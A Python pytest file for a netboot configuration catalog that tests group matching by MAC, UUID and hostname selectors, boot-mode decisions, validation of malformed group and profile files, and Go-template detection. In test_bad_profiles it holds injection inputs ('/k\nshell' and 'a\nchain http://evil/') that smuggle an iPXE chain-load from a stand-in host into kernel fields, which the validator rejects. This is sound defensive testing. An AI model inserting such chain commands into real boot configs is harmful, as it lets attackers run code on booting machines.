"""Matching (table-driven, including matchbox example shapes) and data-dir loading."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from appliance.bootcfg.catalog import TemplateKind, load_catalog, looks_like_go_template
from appliance.bootcfg.labels import parse_labels
from appliance.bootcfg.matching import Outcome, decide, select_group
from appliance.errors import ConfigError
from appliance.state.model import BootMode, Machine, MachineState
from tests.bootcfg.conftest import DataDir

MAC1 = "52:54:00:a1:9c:ae"
UUID1 = "16e7d8a7-bfa9-428b-9117-363341bb330b"


@pytest.fixture
def matchbox_like(data: DataDir) -> DataDir:
    """Shapes of matchbox's examples/groups/etcd-install and bootkube-install."""
    data.profile("flatcar-install", ignition_id="flatcar-install.ign")
    data.profile("etcd", kernel=None, ignition_id="etcd.ign")
    data.profile("simple")
    data.group("install", "flatcar-install")  # the default group
    data.group("node1", "etcd", {"uuid": UUID1.upper(), "os": "installed"})
    data.group("node2", "etcd", {"mac": "52-54-00-B2-2F-86", "os": "installed"})
    data.group("proxies", "etcd", {"os": "installed"})
    data.group("by-mac", "simple", {"mac": MAC1})
    data.group("by-host", "simple", {"hostname": "node5.example.com"})
    data.group("tie-b", "simple", {"serial": "S1"})
    data.group("tie-a", "etcd", {"region": "r1"})
    ign = json.dumps({"ignition": {"version": "3.3.0"}})
    data.file("ignition", "flatcar-install.ign", ign)
    data.file("ignition", "etcd.ign", ign)
    return data


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ([], "install"),
        ([("mac", "52:54:00:00:00:01")], "install"),
        ([("os", "installed")], "proxies"),
        ([("uuid", UUID1), ("os", "installed")], "node1"),
        ([("uuid", UUID1)], "install"),  # node1 needs both selectors
        ([("mac", "525400b22f86"), ("os", "installed")], "node2"),
        ([("mac", "52-54-00-B2-2F-86"), ("os", "installed")], "node2"),
        ([("mac", MAC1.upper())], "by-mac"),
        ([("mac", MAC1), ("os", "installed")], "by-mac"),  # 1 selector each: id order
        ([("hostname", "NODE5.example.com")], "by-host"),
        ([("serial", "S1"), ("region", "r1")], "tie-a"),  # tie: lowest id wins
        ([("region", "r2")], "install"),
    ],
)
def test_select_group(matchbox_like: DataDir, query: list[tuple[str, str]], expected: str) -> None:
    catalog = load_catalog(matchbox_like.root)
    group = select_group(catalog.groups, parse_labels(query))
    assert group is not None
    assert group.id == expected


def test_no_default_means_no_match(data: DataDir) -> None:
    data.profile("p")
    data.group("only", "p", {"os": "installed"})
    catalog = load_catalog(data.root)
    assert select_group(catalog.groups, parse_labels([("mac", MAC1)])) is None
    decision = decide(catalog, parse_labels([("mac", MAC1)]), None, ipxe=True)
    assert decision.outcome is Outcome.NO_MATCH


def _machine(boot: BootMode, state: MachineState = MachineState.DISCOVERED) -> Machine:
    return Machine(mac=MAC1, boot=boot, state=state)


def test_registry_decides_on_top_of_matching(kpc_data: DataDir) -> None:
    catalog = load_catalog(kpc_data.root)
    plain = parse_labels([("mac", MAC1)])
    installed = parse_labels([("mac", MAC1), ("os", "installed")])

    d = decide(catalog, plain, _machine(BootMode.INSTALL), ipxe=True)
    assert (d.outcome, d.profile and d.profile.id) == (Outcome.PROFILE, "install")
    d = decide(catalog, plain, _machine(BootMode.LOCAL), ipxe=True)
    assert d.outcome is Outcome.LOCAL
    # never an installer config to a machine that finished installing
    d = decide(catalog, plain, _machine(BootMode.LOCAL), ipxe=False)
    assert d.outcome is Outcome.REFUSED
    assert "boot mode local" in d.reason
    d = decide(catalog, installed, _machine(BootMode.LOCAL), ipxe=False)
    assert (d.outcome, d.profile and d.profile.id) == (Outcome.PROFILE, "targetnode")
    d = decide(catalog, plain, _machine(BootMode.RESCUE), ipxe=True)
    assert (d.outcome, d.profile and d.profile.id) == (Outcome.PROFILE, "rescue")
    # installer without a MAC: refused (installs are tracked per MAC)
    d = decide(catalog, parse_labels([]), None, ipxe=True)
    assert d.outcome is Outcome.REFUSED
    assert "mac=" in d.reason


def test_second_default_group_is_a_load_error_naming_both(data: DataDir) -> None:
    data.profile("p")
    first = data.group("a", "p")
    second = data.group("b", "p")
    with pytest.raises(ConfigError) as info:
        load_catalog(data.root)
    problem = "\n".join(info.value.problems)
    assert str(first) in problem
    assert str(second) in problem
    assert "second default group" in problem


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "not valid JSON"),
        ('["a"]', "expected a JSON object"),
        ('{"id": "g"}', "profile: required"),
        ('{"id": "g", "profile": "missing"}', "profile 'missing' does not exist"),
        ('{"id": "g", "profile": "p", "selector": {"mac": "zz"}}', "selector.mac"),
        ('{"id": "g", "profile": "p", "selector": {"os": 1}}', "selector.os"),
    ],
)
def test_bad_group_files(data: DataDir, content: str, message: str) -> None:
    data.profile("p")
    bad = data.file("groups", "bad.json", content)
    with pytest.raises(ConfigError) as info:
        load_catalog(data.root)
    assert any(str(bad) in p and message in p for p in info.value.problems), info.value.problems


@pytest.mark.parametrize(
    ("boot", "message"),
    [
        ({"initrd": []}, "boot.kernel: required"),
        ({"kernel": "/k\nshell", "initrd": []}, "control chars"),
        ({"kernel": "/k", "args": ["a\nchain http://evil/"]}, "control characters"),
        ({"kernel": "/k", "args": "console=ttyS0"}, "expected a list"),
    ],
)
def test_bad_profiles(data: DataDir, boot: dict[str, object], message: str) -> None:
    bad = data.file("profiles", "bad.json", json.dumps({"id": "bad", "boot": boot}))
    with pytest.raises(ConfigError) as info:
        load_catalog(data.root)
    assert any(str(bad) in p and message in p for p in info.value.problems), info.value.problems


def test_duplicate_ids_name_both_files(data: DataDir) -> None:
    data.profile("p")
    data.group("g", "p", {"os": "a"}, file="one.json")
    data.group("g", "p", {"os": "b"}, file="two.json")
    with pytest.raises(ConfigError, match="problem") as info:
        load_catalog(data.root)
    assert "one.json" in info.value.problems[0]
    assert "two.json" in info.value.problems[0]


def test_old_matchbox_cmdline_shape(data: DataDir) -> None:
    data.file(
        "profiles",
        "old.json",
        json.dumps(
            {
                "id": "old",
                "boot": {
                    "kernel": "/k",
                    "initrd": ["/i"],
                    "cmdline": {"coreos.autologin": "", "console": "ttyS0"},
                },
            }
        ),
    )
    profile = load_catalog(data.root).profiles["old"]
    assert profile.boot is not None
    assert profile.boot.args == ("coreos.autologin", "console=ttyS0")


@pytest.mark.parametrize(
    ("name", "text", "kind", "message"),
    [
        ("a.ign", '{"ignition": {"version": "3.3.0"}}', TemplateKind.IGNITION, None),
        ("a.ign.j2", '{"ignition": {"version": {{ v | json }}}}', TemplateKind.IGNITION_J2, None),
        ("a.ign", '{"ignition": {{.version}}}', TemplateKind.REFUSED, "matchbox Go template"),
        ("a.ign.j2", '{"x": "{{.mac}}"}', TemplateKind.REFUSED, "Go template syntax"),
        (
            "a.yaml",
            "passwd:\n  users:\n  - name: {{.user}}\n",
            TemplateKind.REFUSED,
            "matchbox Go template",
        ),
        ("a.yaml", "passwd: {}\n", TemplateKind.REFUSED, "transpile it"),
        ("a.ign", '{"storage": {}}', TemplateKind.REFUSED, "not an Ignition config"),
    ],
)
def test_ignition_files_classified(
    data: DataDir, name: str, text: str, kind: TemplateKind, message: str | None
) -> None:
    path = data.file("ignition", name, text)
    catalog = load_catalog(data.root)
    template = catalog.ignition[name]
    assert template.kind is kind
    if message is not None:
        assert template.problem is not None
        assert str(path) in template.problem
        assert message in template.problem
        assert any(str(path) in w for w in catalog.warnings)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{{.Foo}}", True),
        ("{{ .foo }}", True),
        ("{{- if .x}}", True),
        ("{{range $i := .list}}", True),
        ("{{end}}", True),
        ("{{ foo }}", False),
        ("{{ mac | json }}", False),
        ("{% if x %}", False),
        ("{{ range(3) }}", False),
    ],
)
def test_go_template_detection(text: str, expected: bool) -> None:
    assert looks_like_go_template(text) is expected


def test_missing_data_dir(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist") as info:
        load_catalog(tmp_path / "nope")
    assert info.value.hint is not None and "kpc bootcfg init" in info.value.hint
